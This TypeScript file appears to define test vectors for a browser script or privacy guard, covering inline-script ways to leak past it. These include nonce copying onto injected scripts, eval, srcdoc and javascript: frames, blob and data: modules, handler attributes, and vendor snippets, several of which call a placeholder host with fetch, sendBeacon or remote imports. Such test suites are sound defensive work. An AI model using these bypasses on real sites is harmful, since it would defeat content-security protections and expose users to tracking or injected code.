import type { Vector } from "./test-vectors.ts";

/** Ends a script element in a script element's own text, which may not hold it. */
const end = `</scr" + "ipt>`;
/** A script element made by script; `nonced` copies the page's nonce to it, as vendors' snippets do. */
const element = `const s = document.createElement("script");`;
const nonced = `${element} const n = document.querySelector("script[nonce]"); s.setAttribute("nonce", n ? n.nonce : "");`;
const fresh = `const f = document.createElement("iframe"); document.documentElement.append(f);`;
const rules = (kind: string) =>
  `JSON.stringify({ ${kind}: [{ urls: ["https://{host}/next.html"], eagerness: "immediate" }] })`;
/** Text of a script that stores in the newest frame, which it takes by its number: no getter or event tells the guard. */
const newest = `frames[frames.length - 1].localStorage.{name} = 1`;
const put = (way: string) => `const d = document.createElement("div"); document.documentElement.append(d); ${way}`;

/** Ways to leak that only inline code has, or that came up with it. They are tried in files as well. */
const ways: { readonly [id: string]: Pick<Vector, "says" | "script" | "html" | "when" | "alone"> } = {
  "lend-nonce": {
    says: "a nonce that is copied to a script from elsewhere",
    when: "parse",
    script: `${nonced} s.src = "https://{host}/tag.js"; document.head.append(s);`,
  },
  "write-nonce": {
    says: "a script from elsewhere written with the nonce",
    when: "parse",
    script: `const n = document.querySelector("script[nonce]"); document.write("<script nonce='" + (n ? n.nonce : "") + "' src='https://{host}/tag.js'>${end}");`,
  },
  "import-map": {
    says: "an import map that leads elsewhere",
    when: "parse",
    html: `<script type="importmap">{"imports":{"{name}":"https://{host}/m.js"}}</script>{script}`,
    script: `import("{name}").catch(() => {});`,
  },
  "blob-module": {
    says: "a module from a blob that imports from elsewhere",
    when: "parse",
    script: `import(URL.createObjectURL(new Blob(["import 'https://{host}/b.js'"], { type: "text/javascript" }))).catch(() => {});`,
  },
  "script-of-text": {
    says: "an inline script made by script",
    when: "parse",
    script: `${element} s.textContent = "localStorage.{name} = 1; new Image().src = 'https://{host}/p.gif'"; document.head.append(s);`,
  },
  eval: { says: "text that becomes code", when: "parse", script: `(0, eval)("localStorage.{name} = 1");` },
  "timer-of-text": { says: "a timer of text", when: "parse", script: `setTimeout("localStorage.{name} = 1", 50);` },
  "eval-of-frame": {
    says: "a fresh frame's eval",
    when: "parse",
    alone: true,
    script: `${fresh} f.contentWindow.eval("localStorage.{name} = 1");`,
  },
  "srcdoc-script": {
    says: "an inline script in a frame's own HTML",
    when: "parse",
    alone: true,
    script: `const f = document.createElement("iframe"); f.srcdoc = "<script>localStorage.{name} = 1${end}"; document.documentElement.append(f);`,
  },
  "srcdoc-attribute": {
    says: "an inline script in a frame's own HTML, set as an attribute",
    when: "parse",
    alone: true,
    script: `const f = document.createElement("iframe"); f.setAttribute("srcdoc", "<script>localStorage.{name} = 1${end}"); document.documentElement.append(f);`,
  },
  "srcdoc-html": {
    says: "an inline script in a frame's own HTML, in HTML set by script",
    when: "parse",
    alone: true,
    script: `const d = document.createElement("div"); document.documentElement.append(d); d.innerHTML = "<iframe srcdoc='<script>localStorage.{name} = 1${end}'></iframe>";`,
  },
  "javascript-frame": {
    says: "a frame with a javascript: address",
    when: "parse",
    alone: true,
    script: `const f = document.createElement("iframe"); f.src = "javascript:void(localStorage.{name} = 1)"; document.documentElement.append(f);`,
  },
  "javascript-link": {
    says: "a page that leads to a javascript: address",
    when: "parse",
    alone: true,
    script: `location.href = "javascript:void(document.cookie = '{name}=1; path=/')";`,
  },
  "written-frame": {
    says: "an inline script written into a fresh frame",
    when: "parse",
    alone: true,
    script: `${fresh} const d = f.contentDocument; d.open(); d.write("<script>localStorage.{name} = 1${end}"); d.close();`,
  },
  "handler-attribute": {
    says: "an event handler set as an attribute",
    when: "parse",
    script: `const i = document.createElement("img"); i.setAttribute("onerror", "document.cookie = '{name}=1; path=/'"); i.src = "/missing.gif";`,
  },
  "handler-of-frame": {
    says: "a load handler of a frame, by the frame's number",
    when: "parse",
    alone: true,
    script: `const f = document.createElement("iframe"); f.onload = () => { window[frames.length - 1].localStorage.{name} = 1; }; document.documentElement.append(f);`,
  },
  "second-page": {
    says: "a frame's second page, in its load handler",
    when: "parse",
    alone: true,
    script: `const f = document.createElement("iframe"); f.src = "/robots.txt"; let n = 0; f.onload = () => { if (n++) window[frames.length - 1].localStorage.{name} = 1; else f.src = "/robots.txt?2"; }; document.documentElement.append(f);`,
  },
  "range-by-number": {
    says: "a frame put in by a range, by its number",
    when: "parse",
    alone: true,
    script: `const r = document.createRange(); r.selectNode(document.body.firstChild); r.insertNode(document.createElement("iframe")); window[frames.length - 1].localStorage.{name} = 1;`,
  },
  "text-by-number": {
    says: "a frame put after a text, by its number",
    when: "parse",
    alone: true,
    script: `document.body.firstChild.after(document.createElement("iframe")); window[frames.length - 1].localStorage.{name} = 1;`,
  },
  "command-by-number": {
    says: "a frame put in by an editing command, by its number",
    when: "parse",
    alone: true,
    script: `document.body.contentEditable = true; getSelection().selectAllChildren(document.querySelector("h1")); document.execCommand("insertHTML", false, "<p>x</p><iframe></iframe>"); document.body.contentEditable = false; window[frames.length - 1].localStorage.{name} = 1;`,
  },
  "event-area": {
    says: "the storage that a storage event names",
    when: "parse",
    script: `addEventListener("storage", (e) => { if (e.storageArea) e.storageArea.{name} = "1"; }); dispatchEvent(new StorageEvent("storage", { storageArea: localStorage }));`,
  },
  "speculation-script": {
    says: "speculation rules made by script",
    when: "html",
    script: `${element} s.type = "speculationrules"; s.textContent = ${rules("prefetch")}; document.head.append(s);`,
  },
  "speculation-written": {
    says: "speculation rules written into the page",
    when: "html",
    script: `document.write("<script type='speculationrules'>" + ${rules("prefetch")} + "${end}");`,
  },
  "data-frame": {
    says: "a frame of a data: address that fetches",
    when: "parse",
    alone: true,
    script: `const f = document.createElement("iframe"); f.src = "data:text/html,<script>fetch('https://{host}/d',{mode:'no-cors'})<" + "/script>"; document.documentElement.append(f);`,
  },
  "old-webrtc": {
    says: "WebRTC by its old name",
    when: "parse",
    script: `const p = new webkitRTCPeerConnection({ iceServers: [{ urls: "stun:{host}:3478" }] }); p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o));`,
  },

  "frame-html": {
    says: "a frame in HTML set by script",
    when: "parse",
    alone: true,
    script: `const d = document.createElement("div"); document.body.append(d); d.innerHTML = "<iframe title='x' src='https://{host}/f'></iframe>";`,
  },
  "frame-attribute": {
    says: "a frame that gets its address as an attribute, late",
    when: "parse",
    alone: true,
    script: `${fresh} f.setAttribute("src", "https://{host}/f");`,
  },

  // A nonce that is passed on.
  "nonced-text": {
    says: "an inline script made by script with the nonce",
    when: "parse",
    script: `${nonced} s.text = "document.cookie = '{name}=1; path=/'; navigator.sendBeacon('https://{host}/b')"; document.head.append(s);`,
  },
  "nonced-import": {
    says: "an import by a script that got the nonce",
    when: "parse",
    script: `${nonced} s.text = "import('https://{host}/m.js').catch(() => {})"; document.head.append(s);`,
  },

  // A frame and what uses it, put in by one operation.
  "write-frame-and-script": {
    says: "a frame and a script written at once",
    when: "parse",
    alone: true,
    script: `document.write("<iframe></iframe><script>${newest}${end}");`,
  },
  "write-frame-and-nonced-script": {
    says: "a frame and a script with the nonce written at once",
    when: "parse",
    alone: true,
    script: `const n = document.querySelector("script[nonce]"); document.write("<iframe></iframe><script nonce='" + (n ? n.nonce : "") + "'>${newest}${end}");`,
  },
  "write-frame-and-handler": {
    says: "a frame written with a load handler",
    when: "parse",
    alone: true,
    script: `document.write("<iframe onload='this.contentWindow.localStorage.{name} = 1'></iframe>");`,
  },
  "write-frame-and-handler-by-number": {
    says: "a frame written with a load handler that takes it by its number",
    when: "parse",
    alone: true,
    script: `document.write("<iframe onload='${newest}'></iframe>");`,
  },
  "write-frame-in-frame": {
    says: "a frame and a script written into a fresh frame",
    when: "parse",
    alone: true,
    script: `${fresh} f.contentDocument.open(); f.contentDocument.write("<iframe></iframe><script>${newest}${end}"); f.contentDocument.close();`,
  },
  "append-frame-and-script": {
    says: "a frame and a script put in at once",
    when: "parse",
    alone: true,
    script: `${nonced} s.text = "${newest}"; const d = document.createElement("div"); d.append(document.createElement("iframe"), s); document.documentElement.append(d);`,
  },
  "fragment-frame-and-script": {
    says: "a frame and a script in a fragment of a range",
    when: "parse",
    alone: true,
    script: `const r = document.createRange(); document.documentElement.append(r.createContextualFragment("<iframe></iframe><script>${newest}${end}"));`,
  },

  // Frames and windows with a page of their own making.
  "srcdoc-in-html": {
    says: "an inline script in a frame's own HTML, in the HTML",
    when: "parse",
    alone: true,
    html: `<iframe title="x" srcdoc="<script>localStorage.{name} = 1</script>"></iframe>`,
  },
  "javascript-frame-in-html": {
    says: "a frame with a javascript: address, in the HTML",
    when: "parse",
    alone: true,
    html: `<iframe title="x" src="javascript:void(localStorage.{name} = 1)"></iframe>`,
  },
  "javascript-frame-of-text": {
    says: "a frame whose javascript: address makes its HTML",
    when: "parse",
    alone: true,
    script: `const f = document.createElement("iframe"); f.src = "javascript:'<script>localStorage.{name} = 1${end}'"; document.documentElement.append(f);`,
  },
  "javascript-window": {
    says: "a window with a javascript: address",
    when: "parse",
    alone: true,
    script: `const w = open("javascript:void(localStorage.{name} = 1)"); setTimeout(() => w?.close(), 400);`,
  },
  "written-window": {
    says: "an inline script written into a fresh window",
    when: "parse",
    alone: true,
    script: `const w = open("about:blank"); w.document.write("<script>localStorage.{name} = 1${end}"); w.document.close(); setTimeout(() => w.close(), 400);`,
  },
  "blob-frame": {
    says: "a frame of a blob",
    when: "parse",
    alone: true,
    script: `const f = document.createElement("iframe"); f.src = URL.createObjectURL(new Blob(["<script>localStorage.{name} = 1${end}"], { type: "text/html" })); document.documentElement.append(f);`,
  },
  "second-page-by-number": {
    says: "a frame's next page, by its number, before its load event",
    when: "parse",
    alone: true,
    // A race, so it is run several times.
    script: `const f = document.createElement("iframe"); f.src = "/robots.txt"; document.documentElement.append(f); const w = frames[frames.length - 1]; let n = 0; setInterval(() => { w.location = "/robots.txt?" + n++; }, 100); setInterval(() => { try { if (w.location.search) w.localStorage.{name} = 1; } catch {} }, 1);`,
  },

  // Handlers in attributes.
  "handler-in-html": {
    says: "an event handler of the HTML that stores",
    when: "parse",
    html: `<img src="/missing.gif" alt="" onerror="localStorage.{name} = 1">`,
  },
  "handler-in-frame": {
    says: "an event handler in HTML of a fresh frame",
    when: "parse",
    alone: true,
    script: `${fresh} f.contentDocument.body.innerHTML = "<img src='/missing.gif' onerror='localStorage.{name} = 1'>";`,
  },
  "handler-of-parser": {
    says: "an event handler of a document that a parser made",
    when: "parse",
    script: `const d = new DOMParser().parseFromString("<img src='/missing.gif' onerror='localStorage.{name} = 1'>", "text/html"); document.documentElement.append(d.body.firstChild);`,
  },
  "handler-in-unsafe-html": {
    says: "a frame with a load handler in unsafe HTML",
    when: "parse",
    alone: true,
    script: put(
      `d.setHTMLUnsafe("<iframe onload='localStorage.{name} = 1; this.contentWindow.localStorage.{name} = 2'></iframe>");`,
    ),
  },

  // Text that becomes code.
  "function-of-text": {
    says: "a function of text",
    when: "parse",
    script: `new Function("document.cookie = '{name}=1; path=/'")();`,
  },
  "eval-by-number": {
    says: "a fresh frame's eval, by its number",
    when: "parse",
    alone: true,
    script: `document.documentElement.append(document.createElement("iframe")); frames[frames.length - 1].eval("localStorage.{name} = 1");`,
  },
  "module-of-data": {
    says: "a module of a data: address",
    when: "parse",
    script: `import("data:text/javascript,localStorage.{name} = 1").catch(() => {});`,
  },
  "worker-of-data": {
    says: "a worker of a data: address that fetches",
    when: "parse",
    script: `new Worker("data:text/javascript,fetch('https://{host}/w', { mode: 'no-cors' })");`,
  },
  wasm: {
    says: "a WebAssembly module that calls out as it starts",
    when: "parse",
    // A module that imports one function and starts with it.
    script: `const go = () => { localStorage.{name} = 1; fetch("https://{host}/w", { mode: "no-cors" }).catch(() => {}); }; WebAssembly.instantiate(Uint8Array.from("0061736d01000000010401600000020701016101620000080100".match(/../g), (byte) => parseInt(byte, 16)), { a: { b: go } }).catch(() => {});`,
  },
  "speculation-prerender": {
    says: "speculation rules with the nonce that prerender",
    when: "html",
    script: `${nonced} s.type = "speculationrules"; s.text = ${rules("prerender")}; document.head.append(s);`,
  },

  // What vendors have sites paste.
  "snippet-with-loader": {
    says: "a measuring snippet beside its loader",
    when: "parse",
    html: `<script async src="https://{host}/measure/js?id=M-1"></script>{script}`,
    script: `window.layer = window.layer || []; function measure() { layer.push(arguments); } measure("js", new Date()); measure("config", "M-1"); document.cookie = "{name}=M1.1; path=/; max-age=63072000";`,
  },
  "snippet-that-inserts": {
    says: "a tag manager's snippet, which inserts its loader before the first script and passes the nonce on",
    when: "parse",
    script: `(function (w, d, layer, id) { w[layer] = w[layer] || []; w[layer].push({ start: Date.now() }); const first = d.getElementsByTagName("script")[0]; const own = d.createElement("script"); own.async = true; own.src = "https://{host}/manager.js?id=" + id; const holder = d.querySelector("[nonce]"); if (holder) own.setAttribute("nonce", holder.nonce || holder.getAttribute("nonce")); first.parentNode.insertBefore(own, first); })(window, document, "layer", "T-1");`,
  },
  "snippet-with-image": {
    says: "a pixel's snippet with an image for browsers without script",
    when: "parse",
    html: `{script}<noscript><img src="https://{host}/p?id=1&noscript=1" alt=""></noscript>`,
    script: `(function (w, d) { const call = (w.pixel = w.pixel || function () { call.queue.push(arguments); }); call.queue = call.queue || []; const own = d.createElement("script"); own.async = true; own.src = "https://{host}/pixel.js"; d.head.insertBefore(own, d.head.firstChild); call("init", "1"); call("track", "view"); })(window, document);`,
  },
};

export const inlineWays: readonly Vector[] = Object.entries(ways).map(([id, way]) => ({ id: `inline-${id}`, ...way }));
